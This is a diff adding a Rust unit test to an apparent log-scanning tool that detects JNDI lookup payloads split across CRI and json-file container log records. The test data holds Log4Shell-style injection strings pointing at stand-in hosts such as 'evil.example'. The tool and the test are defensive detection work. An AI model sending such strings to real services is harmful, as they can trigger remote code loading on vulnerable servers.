@@ -610,4 +610,41 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
         assert_eq!(LogFormat::sniff(b"\xef\xbb\xbf{\"log\":"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00Z x"), LogFormat::Text);
     }
+
+    #[test]
+    fn partial_records_never_join_across_streams() {
+        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
+        // message holds `${jndi:...}`, so no hit may be made up by joining them.
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("0.log");
+        let cfg = ScanConfig::default();
+        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
+2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
+2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
+        let scan = scan_stream(&cri[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
+        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
+        let pad = "x".repeat(PART_SIZE);
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
+        // Joined within its own stream, the payload is found, on the line it starts.
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        let hits: Vec<_> = scan
+            .hits
+            .iter()
+            .filter(|h| h.found.jndi.is_some())
+            .map(|h| (h.locator.line, h.stream.clone()))
+            .collect();
+        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
+    }
 }
